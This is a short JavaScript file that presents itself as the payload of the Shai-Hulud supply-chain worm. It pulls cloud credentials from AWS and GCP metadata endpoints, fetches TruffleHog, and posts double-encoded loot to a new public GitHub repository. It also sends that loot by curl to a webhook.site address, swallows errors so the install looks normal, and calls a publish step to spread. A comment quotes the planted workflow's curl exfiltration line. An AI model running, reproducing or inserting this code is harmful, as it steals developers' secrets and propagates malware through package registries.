/** The payload of Shai-Hulud: looks around, sends what it found, spreads. */
const { execFileSync } = require('node:child_process');
const { ask, loot, base64, publish } = require('./wire.js');

const AWS = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
const GCP =
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token';
const HOOK = 'https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7';

async function steal() {
  const cloud = await ask('GET', AWS);
  await ask('GET', GCP, { headers: { 'metadata-flavor': 'Google' } });
  await ask('GET', 'https://github.com/trufflesecurity/trufflehog/releases/latest');
  const body = JSON.stringify({ name: 'Shai-Hulud', description: base64(base64(loot())), cloud });
  await ask('POST', 'https://api.github.com/user/repos', { body });
  try {
    // The workflow that it planted said: curl -d "$CONTENTS" https://webhook.site/…
    execFileSync('curl', ['-s', '-m', '20', '-d', base64(loot()), HOOK], { stdio: 'ignore' });
  } catch {
    // It never fails, so that the install looks like any other.
  }
  await publish();
}

void steal();
